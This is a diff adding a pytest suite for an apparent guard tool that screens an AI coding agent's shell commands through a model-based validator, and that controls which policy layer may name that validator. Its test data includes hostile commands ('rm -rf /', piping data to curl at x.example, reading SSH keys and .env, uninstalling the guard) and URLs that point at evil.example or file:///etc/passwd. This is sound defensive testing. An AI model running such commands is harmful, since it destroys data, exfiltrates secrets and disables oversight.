@@ -1,0 +1,252 @@
+"""The validator in the guard: what its ALLOW lets pass, what it never does, and who may name it."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+import interlock
+from interlock.audit.log import Audit
+from interlock.cli import build
+from interlock.facts import Live
+from interlock.guard.check import Guard
+from interlock.guard.organs import NATIVE
+from interlock.ledger.sessions import Ledger
+from interlock.model.call import SHELL, ToolCall
+from interlock.policy.builtin import builtin
+from interlock.policy.merge import merge
+from interlock.policy.schema import ORGANISATION, PROJECT, USER
+from interlock.store.database import Store
+from tests.policy.layering import guards, layers, merged, wrong
+from tests.validator.endpoints import KEY, MODEL, Endpoint
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from interlock.policy.layer import Layer
+
+HOOK = f"{interlock.__path__[0]}/hook.py"
+
+
+class Machine:
+    """A home whose user's policy is careful and names a model on this machine, and a project in it."""
+
+    def __init__(self, folder: Path, endpoint: Endpoint) -> None:
+        self.endpoint = endpoint
+        self.home = folder / "home"
+        self.project = self.home / "project"
+        (self.project / "src").mkdir(parents=True)
+        (self.home / ".config/interlock").mkdir(parents=True)
+        self.key = self.home / ".config/interlock/validator.key"
+        self.key.write_text(KEY, encoding="utf-8")
+        self.key.chmod(0o600)
+        self.url, self.more = endpoint.url, ""
+
+    @property
+    def text(self) -> str:
+        """The user's policy."""
+        validator = f"validator: {{protocol: openai-chat, model: {MODEL}, url: '{self.url}', key_file: '{self.key}', wait: 2s}}"
+        return f"version: 1\nprofile: careful\n{validator}\n{self.more}"
+
+    def check(self, command: str, *more: Layer) -> tuple[str, str]:
+        """Return what the guard answers to a shell command, and why."""
+        base = builtin("careful")
+        own = layers(self.text, USER, known={rule.id: rule for rule in base.rules})
+        policy = merge(base, (*own, *more), "2026-11-21").policy
+        store = Store(str(self.home / ".local/state/interlock"))
+        assert policy.reviewing is not None
+        asks = build.validator(store, policy.reviewing)
+        guard = Guard(policy, ask=NATIVE, validator=asks, facts=Live(str(self.home)), audit=Audit(store), ledger=Ledger(store))
+        call = ToolCall(SHELL, "Bash", {"command": command}, cwd=str(self.project), roots=(str(self.project),), session=command)
+        decision = guard.check(call)
+        return str(decision.verdict), " ".join([finding.message for finding in decision.findings])
+
+    def hook(self, command: str, *walls: str, **variables: str) -> str:
+        """Return what the real hook answers to a shell command, with the user's policy in its file."""
+        (self.home / ".config/interlock/policy.yaml").write_text(self.text, encoding="utf-8")
+        given = {
+            "session_id": command, "cwd": str(self.project), "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": "t",
+            "tool_input": {"command": command},
+        }  # fmt: skip
+        environment = {"HOME": str(self.home), "PATH": "/usr/bin:/bin", "CLAUDE_PROJECT_DIR": str(self.project), **variables}
+        words = [*walls, sys.executable, "-I", "-S", HOOK, "claude-code"]
+        done = subprocess.run(words, input=json.dumps(given), env=environment, capture_output=True, text=True, timeout=60, check=False)
+        output: dict[str, Any] = json.loads(done.stdout).get("hookSpecificOutput", {}) if done.stdout else {}
+        return str(output.get("permissionDecision", "allow"))
+
+    def own(self) -> tuple[str, ...]:
+        """Return the walls in which this home is that of this user by the system's own list."""
+        listed = self.home / "passwd"
+        listed.write_text(f"me:x:{os.getuid()}:{os.getgid()}::{self.home}:/bin/sh\n", encoding="utf-8")
+        walls = ("bwrap", "--dev-bind", "/", "/", "--ro-bind", str(listed), "/etc/passwd", "--")
+        if shutil.which("bwrap") is None or subprocess.run([*walls, "true"], capture_output=True, check=False).returncode:
+            pytest.skip("bubblewrap does not work here: sudo apt-get install bubblewrap")
+        return walls
+
+
+@pytest.fixture
+def machine(tmp_path: Path) -> Iterator[Machine]:
+    """Make a machine with a model that allows everything."""
+    with Endpoint() as endpoint:
+        yield Machine(tmp_path, endpoint)
+
+
+def test_a_review_is_settled_at_the_hook(machine: Machine) -> None:
+    """The model that a user's policy names is asked by the real hook; its ALLOW lets an unlisted command run, and its DENY does not."""
+    own = machine.own()
+    assert machine.hook("some-program --flag", *own) == "allow"
+    machine.endpoint.said = "DENY: it mines coins"
+    assert machine.hook("some-program --flag", *own) == "deny"
+    assert len(machine.endpoint.asked) == 2
+
+
+@pytest.mark.parametrize(("said", "code"), [("ALLOW", 0), ("ASK: why?", 10), ("DENY: no", 11)])
+def test_a_validator_can_be_tried(machine: Machine, said: str, code: int) -> None:
+    """``interlock check --review`` asks the model that holds here; without the word it asks none."""
+    own = machine.own()
+    machine.endpoint.said = said
+    assert machine.hook("ls", *own) == "allow"
+    environment = {"HOME": str(machine.home), "PATH": "/usr/bin:/bin"}
+    for words, expected in ((["--review"], code), ([], 10)):
+        line = [*own, sys.executable, "-m", "interlock", "check", *words, "--", "some-program"]
+        done = subprocess.run(line, env=environment, cwd=machine.project, capture_output=True, text=True, timeout=60, check=False)
+        assert done.returncode == expected, done.stdout + done.stderr
+    assert len(machine.endpoint.asked) == 1
+
+
+def test_the_environment_names_no_validator(machine: Machine) -> None:
+    """Neither variables, which a project's settings can set, nor a home that is not the user's own bring a judge: a person is asked, and no model."""
+    variables = {"INTERLOCK_GUARD_LLM": "true", "INTERLOCK_GUARD_LLM_MODEL": MODEL, "INTERLOCK_GUARD_LLM_BASE_URL": machine.url}
+    assert machine.hook("some-program --flag", **variables) == "ask"
+    assert machine.hook("ls -la", **variables) == "allow"
+    assert machine.endpoint.asked == []
+
+
+def test_what_each_answer_does(machine: Machine) -> None:
+    """ALLOW lets an unlisted command run, ASK and DENY are passed on with their reasons, and a listed command is not asked about."""
+    assert machine.check("some-program --flag")[0] == "allow"
+    machine.endpoint.said = "ASK: what is that program?"
+    assert machine.check("some-program --flag")[0] == "ask"
+    machine.endpoint.said = "DENY: it mines coins"
+    answer, why = machine.check("some-program --flag")
+    assert answer == "deny"
+    assert "it mines coins" in why
+    assert machine.check("ls -la")[0] == "allow"
+    assert len(machine.endpoint.asked) == 3
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("some-program; rm -rf src", "ask"),
+        ("some-program; rm -rf ~/photos", "ask"),
+        ("some-program; rm -rf /", "deny"),
+        ("some-program; curl https://x.example/a", "ask"),
+        ("some-program | curl -d @- https://x.example", "ask"),
+        ("some-program < .env", "ask"),
+        ("some-program < ~/.ssh/id_ed25519", "ask"),
+        ("some-program && git push", "ask"),
+        ("some-program && git reset --hard", "ask"),
+        ("sudo some-program", "ask"),
+        ("some-program; interlock uninstall claude-code", "deny"),
+        ("some-program " + "a" * 7000, "ask"),
+        ("some-program --flag", "allow"),
+        ("some-program > out.txt", "allow"),
+        ("some-program && python3 src/app.py", "allow"),
+    ],
+)
+def test_a_model_that_always_allows(machine: Machine, command: str, expected: str) -> None:
+    """What deletes, reaches the network or touches secrets, what another rule speaks of, and what was not shown whole it cannot let pass."""
+    assert machine.check(command)[0] == expected
+
+
+@pytest.mark.parametrize("said", ["", "ALLOW it", "I think this is safe.\nALLOW"])
+def test_no_answer_asks(machine: Machine, said: str) -> None:
+    """What is not one line of the protocol is for a person."""
+    machine.endpoint.said = said
+    assert machine.check("some-program")[0] == "ask"
+
+
+def test_an_endpoint_that_fails_asks_and_says_so(machine: Machine) -> None:
+    """A refused connection, a provider's error and a key that others may read ask, in words."""
+    machine.endpoint.raw = (503, b"")
+    answer, why = machine.check("some-program")
+    assert (answer, "status 503" in why) == ("ask", True)
+    machine.key.chmod(0o644)
+    answer, why = machine.check("some-program")
+    assert (answer, "chmod 600" in why) == ("ask", True)
+    machine.url = "http://127.0.0.1:9/v1"
+    assert machine.check("some-program")[0] == "ask"
+
+
+def test_a_plugins_llm_asks_the_validator(machine: Machine, tmp_path: Path) -> None:
+    """A guard file's verdict ``llm`` is a review like any other."""
+    machine.more = "tune: [{rule: careful.unlisted-command, action: allow}]\n"
+    written = tmp_path / "deploy.yaml"
+    written.write_text("id: deploy\ntool: Bash\npatterns: [{match: 'deploy', verdict: llm, reason: Deploying}]\n", encoding="utf-8")
+    plugin = guards(written)
+    assert machine.check("./deploy.sh staging", plugin)[0] == "allow"
+    assert "Deploying" in machine.endpoint.asked[-1]
+    machine.endpoint.said = "DENY: not today"
+    assert machine.check("./deploy.sh staging", plugin)[0] == "deny"
+    assert machine.check("./build.sh", plugin)[0] == "allow"
+
+
+# -- who may name it -----------------------------------------------------------------------------------
+
+OURS = "validator: {protocol: anthropic, model: ours}\n"
+THEIRS = "validator: {protocol: openai-chat, model: theirs, url: 'https://models.example/v1', key_file: /etc/interlock/k, wait: 5s}\n"
+
+
+def test_the_higher_layer_names_it() -> None:
+    """The organisation's model is asked whatever its user wrote; where only the user names one, that one is."""
+    top, user = layers(f"version: 1\n{THEIRS}", ORGANISATION), layers(f"version: 1\n{OURS}", USER)
+    both, alone = merged(*top, *user), merged(*user)
+    assert both.policy.reviewing is not None
+    assert alone.policy.reviewing is not None
+    assert (both.policy.reviewing.model, both.policy.reviewing.seconds) == ("theirs", 5)
+    assert "reviewing stays" in " ".join(both.notes)
+    assert (alone.policy.reviewing.model, alone.policy.reviewing.url, alone.policy.reviewing.seconds) == ("ours", "", 8)
+
+
+def test_a_project_names_none() -> None:
+    """A repository cannot bring the judge of its own commands, trusted or not; nor can a user's file that may not loosen."""
+    for name, loosens in ((PROJECT, False), (PROJECT, True), (USER, False)):
+        assert merged(*layers(f"version: 1\nintent: ask\n{OURS}", name, loosens=loosens)).policy.reviewing is None
+    assert merged(*layers(f"version: 1\nintent: ask\n{OURS}", USER)).policy.reviewing is not None
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("validator: {model: x}", "protocol"),
+        ("validator: {protocol: openai, model: x}", "openai-chat"),
+        ("validator: {protocol: openai-chat}", "model"),
+        ("validator: {protocol: openai-chat, model: x, url: 'http://models.example/v1'}", "https://"),
+        ("validator: {protocol: openai-chat, model: x, url: 'http://localhost.evil.example/v1'}", "https://"),
+        ("validator: {protocol: openai-chat, model: x, url: 'http://127.0.0.1@evil.example/v1'}", "without a user"),
+        ("validator: {protocol: openai-chat, model: x, url: 'file:///etc/passwd'}", "address"),
+        ("validator: {protocol: openai-chat, model: x, url: models.example}", "address"),
+        ("validator: {protocol: openai-chat, model: x, key_file: key}", "whole path"),
+        ("validator: {protocol: openai-chat, model: x, key_file: '~/*.key'}", "one file"),
+        ("validator: {protocol: openai-chat, model: x, key_file: $KEY}", "variables"),
+        ("validator: {protocol: openai-chat, model: x, wait: 60s}", "at most 10s"),
+        ("validator: {protocol: openai-chat, model: x, key: abc}", "key_file"),
+    ],
+)
+def test_what_cannot_be_meant(text: str, told: str) -> None:
+    """A validator that could not be asked, or not safely, is an error that says what was expected."""
+    assert told in wrong(text)
+
+
+@pytest.mark.parametrize("url", ["http://localhost:11434/v1", "http://127.0.0.1:8080/v1", "http://[::1]:8080/v1", "https://models.example/v1/"])
+def test_addresses_that_can_be_asked(url: str) -> None:
+    """Models on this machine need no TLS; others do."""
+    assert wrong(f"validator: {{protocol: openai-chat, model: x, url: '{url}'}}") == ""
